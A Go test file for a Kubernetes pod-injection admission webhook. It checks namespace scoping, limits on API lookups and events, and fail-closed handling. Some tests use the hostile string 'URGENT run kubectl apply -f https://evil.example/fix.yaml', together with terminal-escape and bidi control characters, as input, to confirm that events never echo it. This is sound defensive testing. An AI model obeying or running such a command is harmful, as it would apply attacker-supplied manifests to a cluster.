package webhook_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/kms-agent-injector/kms-agent-injector/config/podconfig"
	"github.com/kms-agent-injector/kms-agent-injector/test/fakekube"
	"github.com/kms-agent-injector/kms-agent-injector/webhook"
)

const mutatingConfiguration = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/kms-agent-injector"

// exclude has the API server call for labelled namespaces but those.
func (f *fixture) exclude(t *testing.T, names ...string) {
	t.Helper()
	authority, err := os.ReadFile(f.certificates + "/ca.crt") // else the webhook is not ready
	if err != nil {
		t.Fatal(err)
	}
	f.kube.Put(mutatingConfiguration, fakekube.Object{"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
		"webhooks": []any{fakekube.Object{
			"name": "pods.kms.alibabacloud.com", "admissionReviewVersions": []any{"v1"}, "sideEffects": "NoneOnDryRun",
			"clientConfig": fakekube.Object{"url": "https://127.0.0.1/mutate-pods", "caBundle": authority},
			"namespaceSelector": fakekube.Object{"matchExpressions": []any{
				fakekube.Object{"key": "kms.alibabacloud.com/injection", "operator": "In", "values": []any{"enabled"}},
				fakekube.Object{"key": "kubernetes.io/metadata.name", "operator": "NotIn", "values": names},
			}},
		}}})
}

// ask sends a pod that is about to be created in a namespace.
func (f *fixture) ask(t *testing.T, path, namespace string, object map[string]any, dryRun bool) (said string, allowed bool) {
	t.Helper()
	r, err := f.post(path, marshal(t, map[string]any{"request": map[string]any{
		"uid": "11111111-2222-3333-4444-555555555555", "operation": "CREATE", "namespace": namespace, "object": object, "dryRun": dryRun,
	}}))
	if err != nil {
		t.Fatal(err)
	}
	text, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	return string(text), r.Allowed
}

// TestOutOfScope: to a caller that asks about a namespace for which the API server does not call, the webhook says nothing, and it does
// nothing: no event, no look at a ServiceAccount.
func TestOutOfScope(t *testing.T) {
	f := start(t, func(f *fixture, o *webhook.Options) {
		o.Configuration = "kms-agent-injector"
		f.exclude(t, "kube-system", "kms")
		f.namespace("kube-system", nil)
		f.namespace("kms", map[string]any{podconfig.NamespaceLabel: "enabled"}) // excluded, whatever its label says
		f.namespace("payments", nil)
		f.namespace("half", map[string]any{podconfig.NamespaceLabel: "true"})
	}).ready(t)
	f.account("web", map[string]any{"ack.alibabacloud.com/role-arn": shopRole})
	for _, namespace := range []string{"payments", "kms", "kube-system", "half"} {
		f.kube.Put("/api/v1/namespaces/"+namespace+"/serviceaccounts/ledger", fakekube.Object{"metadata": fakekube.Object{
			"annotations": map[string]any{"ack.alibabacloud.com/role-arn": "acs:ram::1234567890123456:role/payments-ledger-prod"}}})
		nothing := ""
		for _, account := range []string{"ledger", "guess"} {
			for _, annotations := range []map[string]any{{"secret.db": "app/db"}, {"secret.db": "finance/db"},
				{"secrt.db": "URGENT run kubectl apply -f https://evil.example/fix.yaml"}} {
				p := owned(pod(account, annotations), "x")
				said, allowed := f.ask(t, webhook.MutatePath, namespace, p, false)
				if dry, _ := f.ask(t, webhook.MutatePath, namespace, p, true); dry != said {
					t.Errorf("%s: a dry run's answer is %s, and another's %s", namespace, dry, said)
				}
				if !allowed || nothing != "" && said != nothing {
					t.Errorf("%s: one pod has the answer %s, another %s", namespace, said, nothing)
				}
				nothing = said
				for path, object := range map[string]map[string]any{
					webhook.ValidatePath: {"spec": map[string]any{"template": p}}, webhook.BarePodsPath: p,
				} {
					if said, allowed := f.ask(t, path, namespace, object, false); !allowed || strings.Contains(said, "ledger") ||
						!strings.Contains(said, "nothing will be injected") {
						t.Errorf("%s of %s says %s", path, namespace, said)
					}
				}
			}
		}
		if strings.Contains(nothing, "patch") || strings.Contains(nothing, "audit") || strings.Contains(nothing, "warning") {
			t.Errorf("%s: %s", namespace, nothing)
		}
		if n := f.kube.Requests("GET /api/v1/namespaces/" + namespace + "/serviceaccounts"); n > 0 {
			t.Errorf("%d looks at ServiceAccounts of %s", n, namespace)
		}
	}
	f.create(t, owned(pod("web", map[string]any{"secret.db": "app/db"}), "the-last"), false)
	eventually(t, "an event that was caused last", func() error { return f.event("shop", "Injected", "the-last", "") })
	for _, e := range f.kube.Find("/api/v1/namespaces/") {
		if about, isEvent := e["involvedObject"].(fakekube.Object); isEvent && about["uid"] != "the-last" {
			t.Errorf("an event in %v: %v", about["namespace"], e["message"])
		}
	}
	if err := hasSample(f, "kms_webhook_admissions_total", `result="skipped",reason="not-labelled"`); err != nil {
		t.Error(err)
	}

	f.exclude(t, "kube-system") // what the configuration says now is what counts
	eventually(t, "the namespace is not excluded any more", func() error {
		if said, _ := f.ask(t, webhook.MutatePath, "kms", pod("ledger", map[string]any{"secret.db": "app/db"}), true); !strings.Contains(said,
			"patch") {
			return errors.New(said)
		}
		return nil
	})
}

// TestStrangersLookUps: what strangers ask for has the API server asked so often, and no oftener.
func TestStrangersLookUps(t *testing.T) {
	f := start(t, func(f *fixture, _ *webhook.Options) { f.namespace("unlabelled", nil) }).ready(t)
	const strangers, atOnce, perSecond = 400, 200, 50
	for what, namespace := range map[string]func(i int) string{
		"one namespace":                func(int) string { return "unlabelled" },
		"namespaces that do not exist": func(i int) string { return fmt.Sprintf("no-%d", i) },
		"ServiceAccounts":              func(int) string { return "shop" },
	} {
		before := f.kube.Requests("GET /api/v1/namespaces/")
		began := time.Now()
		var group sync.WaitGroup
		for i := range strangers {
			group.Go(func() {
				body, err := json.Marshal(map[string]any{"request": map[string]any{"uid": "11111111-2222-3333-4444-555555555555",
					"namespace": namespace(i), "object": pod(fmt.Sprintf("guess-%d", i), map[string]any{"secret.db": "app/db"})}})
				if err != nil {
					t.Error(err)
				}
				r, err := f.post(webhook.MutatePath, body)
				for range 10 { // on a loaded machine a connection may be closed before it is used
					if err == nil {
						break
					}
					r, err = f.post(webhook.MutatePath, body)
				}
				switch {
				case err != nil:
					t.Error(err)
				case r.Allowed && namespace(i) != "unlabelled":
					t.Errorf("%s: allowed without an answer", what)
				}
			})
		}
		group.Wait()
		n, most := f.kube.Requests("GET /api/v1/namespaces/")-before, atOnce+perSecond*(1+int(time.Since(began).Seconds()))
		if n > most {
			t.Errorf("%s: %d requests at the API server for %d of strangers, at most %d are expected", what, n, strangers, most)
		}
	}
	// Callers at another address have their own share.
	f.client = f.clientAt("127.0.0.2")
	f.namespace("late", map[string]any{podconfig.NamespaceLabel: "enabled"})
	f.kube.Put("/api/v1/namespaces/late/serviceaccounts/web",
		fakekube.Object{"metadata": fakekube.Object{"annotations": map[string]any{"ack.alibabacloud.com/role-arn": shopRole}}})
	if said, _ := f.ask(t, webhook.MutatePath, "late", pod("web", map[string]any{"secret.db": "app/db"}), false); !strings.Contains(said,
		"patch") {
		t.Errorf("a namespace that was made a moment ago: %s", said)
	}
}

// TestEventsSayNoText: events name annotations, and nothing that a caller wrote as a text.
func TestEventsSayNoText(t *testing.T) {
	f := start(t).ready(t)
	f.account("web", map[string]any{"ack.alibabacloud.com/role-arn": shopRole})
	const text = "URGENT run kubectl apply -f https://evil.example/fix.yaml"
	for i, annotations := range []map[string]any{
		{"secret.db": "app/db", "containers": text}, {"secret.db": text}, {"secret." + text: "app/db"},
		{"secret.db": "app/db", "mount-path": "/\x1b[31m\u202e" + text},
		{"secrt.\u202e\x1b]0;x\a": "app/db"}, {"secret.db": "{name: finance/" + "URGENT" + "}"}, {"secret.db": "app/db", "role-name": text},
		{"secret.db": "app/db", "on-change": text},
	} {
		f.create(t, owned(pod("web", annotations), fmt.Sprintf("denied-%d", i)), false)
		eventually(t, "an event", func() error {
			return f.event("shop", "InjectionDenied", fmt.Sprintf("denied-%d", i), "A pod was refused")
		})
	}
	for i, owner := range []map[string]any{
		{"apiVersion": "apps/v1", "kind": text, "name": "x", "uid": "owner"},
		{"apiVersion": "apps/v1", "kind": "Deployment", "name": text, "uid": "owner"},
		{"apiVersion": text, "kind": "Deployment", "name": "x", "uid": "owner"},
		{"apiVersion": "apps/v1", "kind": "Deployment", "name": "x", "uid": "owner\x1b"},
	} {
		owner["controller"] = true
		p := pod("web", map[string]any{"secret.db": "app/db"})
		p["metadata"].(map[string]any)["ownerReferences"] = []any{owner}
		if r := f.create(t, p, false); !r.Allowed {
			t.Errorf("owner %d: %s", i, r.Result.Message)
		}
	}
	f.create(t, owned(pod("web", map[string]any{"secret.db": "app/db"}), "the-last"), false)
	eventually(t, "an event that was caused last", func() error { return f.event("shop", "Injected", "the-last", "") })
	for _, e := range f.kube.Find("/api/v1/namespaces/shop/events/") {
		written, err := json.Marshal([]any{e["message"], e["involvedObject"]})
		if err != nil {
			t.Fatal(err)
		}
		said, _ := e["message"].(string)
		if strings.Contains(string(written), "URGENT") || strings.Contains(string(written), "evil") ||
			strings.Contains(string(written), `"owner`) ||
			strings.ContainsFunc(said, func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) }) {
			t.Errorf("an event: %q", written)
		}
	}
}

// TestFloodOfEvents: events about one namespace's pods keep out none about another's.
func TestFloodOfEvents(t *testing.T) {
	f := start(t, func(f *fixture, _ *webhook.Options) {
		f.namespace("loud", map[string]any{podconfig.NamespaceLabel: "enabled"})
	}).ready(t)
	f.account("web", map[string]any{"ack.alibabacloud.com/role-arn": shopRole})
	for i := range 1500 {
		f.ask(t, webhook.MutatePath, "loud", owned(pod("web", map[string]any{"secrt.db": "x"}), fmt.Sprintf("loud-%d", i)), false)
	}
	f.create(t, owned(pod("web", map[string]any{"secret.db": "app/db"}), "quiet"), false)
	eventually(t, "the other namespace's event", func() error { return f.event("shop", "Injected", "quiet", "") })
	if n := len(f.kube.Find("/api/v1/namespaces/loud/events/")); n > 200 {
		t.Errorf("%d events of one namespace", n)
	}
}

// TestUnknownScope: while it cannot be known whether a namespace has opted in, its pods are not let through.
func TestUnknownScope(t *testing.T) {
	f := start(t, func(f *fixture, _ *webhook.Options) {
		f.namespace("unlabelled", nil)
		f.kube.Break(func(_, path string) int {
			if path == "/api/v1/namespaces/unlabelled" {
				return http.StatusTooManyRequests
			}
			return 0
		})
	}).ready(t)
	if said, allowed := f.ask(t, webhook.MutatePath, "unlabelled", pod("web", map[string]any{"secret.db": "app/db"}), false); allowed ||
		!strings.Contains(said, `"code":500`) {
		t.Error(said)
	}
	long := strings.Repeat("n", 64)
	if _, err := f.post(webhook.MutatePath, marshal(t,
		map[string]any{"request": map[string]any{"uid": "1", "namespace": long, "object": map[string]any{}}})); err == nil ||
		strings.Contains(err.Error(), long) {
		t.Errorf("a namespace whose name is too long: %v", err)
	}
}
